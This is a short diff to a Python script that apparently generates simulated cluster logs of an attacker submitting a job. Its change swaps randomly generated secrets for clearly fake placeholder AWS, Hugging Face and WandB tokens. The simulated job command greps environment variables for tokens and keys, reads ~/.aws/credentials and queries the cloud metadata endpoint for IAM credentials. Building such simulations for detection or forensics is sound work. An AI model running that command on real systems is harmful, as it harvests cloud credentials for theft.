@@ -149,13 +149,13 @@ for path, size in [("/api/version", 315), ("/api/cluster_status", 2107), ("/node
 SID_A = submission_id()
 ENTRY_A = ("env | grep -iE 'aws|hf_|token|secret|key|wandb'; cat ~/.aws/credentials 2>/dev/null; "
            "curl -s -m 3 http://169.254.169.254/latest/meta-data/iam/security-credentials/")
-HF = "hf_" + "".join(R.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(34))
+HF = "hf_EXAMPLEtokenDOCUMENTATIONonlyNOTrl"  # the shape of a Hugging Face token, not a real one
 done = start_job(t(DAY, "09:48:02", 410), SID_A, ENTRY_A,
                  ["AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
                   "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
                   "AWS_DEFAULT_REGION=us-east-1",
                   f"HF_TOKEN={HF}",
-                  "WANDB_API_KEY=" + hexid(R, 40)], A, entry_after_output=0)
+                  "WANDB_API_KEY=0000example0000wandb0000key0000not0real00"], A, entry_after_output=0)
 access(done, ATTACKER, "POST", "/api/jobs/", 200, 244, ATTACKER_UA, A, dur_us=281_442)
 report_events(done + 2 * sec)
 poll(done + 1 * sec, done + 5 * sec, 1, ATTACKER, SID_A, ATTACKER_UA, A, 700)
